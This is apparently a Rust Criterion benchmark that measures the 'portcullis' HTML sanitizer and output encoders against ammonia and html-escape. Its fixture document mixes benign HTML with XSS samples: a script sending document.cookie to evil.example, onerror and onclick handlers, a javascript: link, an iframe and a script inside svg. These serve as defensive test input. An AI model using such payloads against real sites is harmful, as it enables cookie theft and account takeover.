//! Throughput of the sanitizers, in MB/s (criterion reports bytes of input per second).
//!
//! Run: `cargo bench --bench sanitize --features html` (about two minutes once built).
//!
//! - `clean/portcullis` cleans a 20 KB mixed document (paragraphs, formatting, links,
//!   lists, a table, scripts, event handlers, styles, iframes, comments, entities)
//!   with `HtmlCleaner::new()`; `clean/ammonia_direct` runs ammonia itself, configured
//!   here from the published default allowlist (`html::DEFAULT_TAGS`, …). Target: portcullis ≤ 1.1× ammonia.
//! - `encode_prose/*` encodes 1 MB of English-like text in which about 2 % of the
//!   characters must be escaped (`< > & " '` and punctuation), per context;
//!   `html_escape_*` are the html-escape crate on the same text, for comparison.
//! - `encode_dense/*` encodes 1 MB of markup-like text in which about one byte in
//!   five must be escaped, against html-escape's `encode_quoted_attribute`, which
//!   escapes the same five characters (`& < > " '`) to the same lengths. Target:
//!   `html_text` at least as fast.
//! - `encode_clean/*` encodes 1 MB of text that needs nothing escaped in that
//!   context (letters, digits, spaces, `,.-_`; letters and digits only for URL
//!   components). Target: ≥ 1 GB/s.

mod common;

use std::hint::black_box;
use std::time::Duration;

use common::Rng;
use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use portcullis::sanitize::encode;
use portcullis::sanitize::html::{self, HtmlCleaner};

const WORDS: &[&str] = &[
    "order",
    "shipment",
    "invoice",
    "customer",
    "the",
    "and",
    "of",
    "delivered",
    "pending",
    "warehouse",
    "parcel",
    "refund",
    "tracking",
    "address",
    "payment",
    "today",
    "tomorrow",
    "quickly",
    "carefully",
    "box",
];

fn sentence(rng: &mut Rng, words: usize) -> String {
    (0..words).map(|_| rng.pick(WORDS)).collect::<Vec<_>>().join(" ")
}

/// About 20 KB of user-written HTML, benign and hostile mixed.
fn mixed_document() -> String {
    let mut rng = Rng(0x5eed_cafe_f00d_d00d);
    let mut doc = String::new();
    let blocks: &[fn(&mut Rng) -> String] = &[
        |r| {
            format!(
                "<p>{} <b>{}</b> {} <i>{}</i>.</p>",
                sentence(r, 12),
                sentence(r, 2),
                sentence(r, 8),
                sentence(r, 3)
            )
        },
        |r| {
            format!(
                r#"<p>See <a href="https://example.com/{}">{}</a> &amp; more.</p>"#,
                r.pick(WORDS),
                sentence(r, 3)
            )
        },
        |r| {
            format!(
                "<ul><li>{}</li><li>{}</li><li><em>{}</em></li></ul>",
                sentence(r, 4),
                sentence(r, 5),
                sentence(r, 3)
            )
        },
        |r| {
            format!(
                "<blockquote>{}</blockquote><pre><code>let x = {};</code></pre>",
                sentence(r, 10),
                r.next() % 100
            )
        },
        |r| {
            format!(
                r#"<p onclick="steal()">{} <img src=x onerror="alert(1)"></p>"#,
                sentence(r, 8)
            )
        },
        |r| {
            format!(
                "<script>document.location='https://evil.example/?c='+document.cookie</script><p>{}</p>",
                sentence(r, 6)
            )
        },
        |r| {
            format!(
                r#"<div style="color:red" class="x">{}</div><!-- comment {} -->"#,
                sentence(r, 7),
                sentence(r, 2)
            )
        },
        |r| {
            format!(
                r#"<a href="javascript:alert(1)">{}</a> <iframe src="https://evil.example"></iframe>"#,
                sentence(r, 2)
            )
        },
        |r| {
            format!(
                "<table><tr><td>{}</td><td>{}</td></tr></table>",
                sentence(r, 2),
                sentence(r, 2)
            )
        },
        |r| {
            format!(
                "<h3>{}</h3><svg><script>alert(1)</script></svg><p>{} &lt;3</p>",
                sentence(r, 3),
                sentence(r, 6)
            )
        },
    ];
    while doc.len() < 20 * 1024 {
        let block = blocks[rng.below(blocks.len())];
        doc.push_str(&block(&mut rng));
        doc.push('\n');
    }
    doc
}

/// The default allowlist of `HtmlCleaner::new()`, configured on ammonia directly.
fn ammonia_same_allowlist() -> ammonia::Builder<'static> {
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(html::DEFAULT_TAGS.iter().copied().collect())
        .clean_content_tags(html::REMOVED_WITH_CONTENT.iter().copied().collect())
        .tag_attributes(
            html::DEFAULT_TAG_ATTRIBUTES
                .iter()
                .map(|(tag, attributes)| (*tag, attributes.iter().copied().collect()))
                .collect(),
        )
        .generic_attributes(Default::default())
        .generic_attribute_prefixes(Default::default())
        .url_schemes(html::DEFAULT_URL_SCHEMES.iter().copied().collect())
        .link_rel(Some(html::LINK_REL))
        .strip_comments(true)
        .url_relative(ammonia::UrlRelative::Deny);
    builder
}

/// 1 MB of prose with about 2 % of its characters special in some context.
fn prose() -> String {
    let mut rng = Rng(0x0dd_ba11_u64);
    let specials = ["<", ">", "&", "\"", "'", "/", "(", ")", ":", ";", "!", "?"];
    let mut text = String::with_capacity(1 << 20);
    while text.len() < 1 << 20 {
        text.push_str(rng.pick(WORDS));
        text.push(if rng.next().is_multiple_of(5) { ',' } else { ' ' });
        if rng.next().is_multiple_of(6) {
            text.push_str(rng.pick(&specials));
        }
    }
    text.truncate(1 << 20);
    text
}

/// 1 MB that needs nothing escaped: `alphabet` repeated in a fixed pseudo-random order.
fn clean_text(alphabet: &[u8]) -> String {
    let mut rng = Rng(0x000c_1ea2);
    (0..1 << 20)
        .map(|_| char::from(alphabet[rng.below(alphabet.len())]))
        .collect()
}

fn config() -> Criterion {
    Criterion::default()
        .warm_up_time(Duration::from_secs(1))
        .measurement_time(Duration::from_secs(3))
        .sample_size(20)
}

fn clean(c: &mut Criterion) {
    let doc = mixed_document();
    eprintln!(
        "mixed document: {} bytes, {} tags, {} attributes",
        doc.len(),
        smallest_limit(&doc, |limit| HtmlCleaner::builder().max_tags(limit)),
        smallest_limit(&doc, |limit| HtmlCleaner::builder().max_attributes(limit)),
    );
    let cleaner = HtmlCleaner::new();
    let direct = ammonia_same_allowlist();
    assert_eq!(
        cleaner.clean(&doc).expect("clean"),
        direct.clean(&doc).to_string(),
        "the comparison must clean identically"
    );
    let mut group = c.benchmark_group("clean");
    group.throughput(Throughput::Bytes(doc.len() as u64));
    group.bench_function("portcullis", |b| b.iter(|| cleaner.clean(black_box(&doc))));
    group.bench_function("ammonia_direct", |b| {
        b.iter(|| direct.clean(black_box(&doc)).to_string())
    });
    group.finish();
}

/// The smallest limit under which `doc` is still cleaned: its count as the cleaner
/// sees it, found by bisection through the public builder.
fn smallest_limit(doc: &str, builder: impl Fn(usize) -> html::HtmlCleanerBuilder) -> usize {
    let (mut low, mut high) = (1, html::MAX_TAGS_LIMIT.min(html::MAX_ATTRIBUTES_LIMIT));
    while low < high {
        let mid = (low + high) / 2;
        match builder(mid).build().expect("limit in range").clean(doc) {
            Ok(_) => high = mid,
            Err(_) => low = mid + 1,
        }
    }
    low
}

type Encoder = fn(&str) -> std::borrow::Cow<'_, str>;

const ENCODERS: [(&str, Encoder); 5] = [
    ("html_text", encode::html_text),
    ("html_attribute", encode::html_attribute),
    ("js_string", encode::js_string),
    ("url_component", encode::url_component),
    ("css_string", encode::css_string),
];

fn encode_prose(c: &mut Criterion) {
    let text = prose();
    let mut group = c.benchmark_group("encode_prose");
    group.throughput(Throughput::Bytes(text.len() as u64));
    for (name, encoder) in ENCODERS {
        group.bench_function(name, |b| b.iter(|| encoder(black_box(&text)).len()));
    }
    group.bench_function("html_escape_encode_text", |b| {
        b.iter(|| html_escape::encode_text(black_box(&text)).len())
    });
    group.bench_function("html_escape_encode_safe", |b| {
        b.iter(|| html_escape::encode_safe(black_box(&text)).len())
    });
    group.bench_function("html_escape_encode_double_quoted_attribute", |b| {
        b.iter(|| html_escape::encode_double_quoted_attribute(black_box(&text)).len())
    });
    group.finish();
}

/// 1 MB of markup-like text dense in escapes: about one byte in five is one of
/// `& < > " '`.
fn escape_dense() -> String {
    let mut rng = Rng(0x0de5_e000);
    let pieces = [
        "<b class=\"note\">",
        "</b>",
        "Tom & Jerry",
        "it's",
        "a < b",
        "c > d",
        "\"quoted\"",
        " plain words ",
        "<a href='x'>",
    ];
    let mut text = String::with_capacity(1 << 20);
    while text.len() < 1 << 20 {
        text.push_str(rng.pick(&pieces));
    }
    text.truncate(1 << 20);
    text
}

/// Escape-dense text, against html-escape's encoder of the same five characters
/// (`encode_quoted_attribute`: `& < > " '`, as `html_text` escapes them).
fn encode_dense(c: &mut Criterion) {
    let text = escape_dense();
    let special = text.bytes().filter(|b| b"&<>\"'".contains(b)).count();
    eprintln!("escape-dense text: {} bytes, {special} to escape", text.len());
    assert_eq!(
        encode::html_text(&text).len(),
        html_escape::encode_quoted_attribute(&text).len(),
        "the same escapes, of the same lengths"
    );
    let mut group = c.benchmark_group("encode_dense");
    group.throughput(Throughput::Bytes(text.len() as u64));
    group.bench_function("html_text", |b| b.iter(|| encode::html_text(black_box(&text)).len()));
    group.bench_function("html_attribute", |b| {
        b.iter(|| encode::html_attribute(black_box(&text)).len())
    });
    group.bench_function("html_escape_encode_quoted_attribute", |b| {
        b.iter(|| html_escape::encode_quoted_attribute(black_box(&text)).len())
    });
    group.finish();
}

fn encode_clean(c: &mut Criterion) {
    let script_safe = clean_text(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 ,.-_");
    let unreserved = clean_text(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789");
    let mut group = c.benchmark_group("encode_clean");
    group.throughput(Throughput::Bytes(1 << 20));
    for (name, encoder) in ENCODERS {
        let text = if name == "url_component" {
            &unreserved
        } else {
            &script_safe
        };
        assert!(matches!(encoder(text), std::borrow::Cow::Borrowed(_)), "{name}");
        group.bench_function(name, |b| b.iter(|| encoder(black_box(text)).len()));
    }
    group.bench_function("html_escape_encode_text", |b| {
        b.iter(|| html_escape::encode_text(black_box(&script_safe)).len())
    });
    group.finish();
}

criterion_group! {
    name = benches;
    config = config();
    targets = clean, encode_prose, encode_dense, encode_clean
}
criterion_main!(benches);
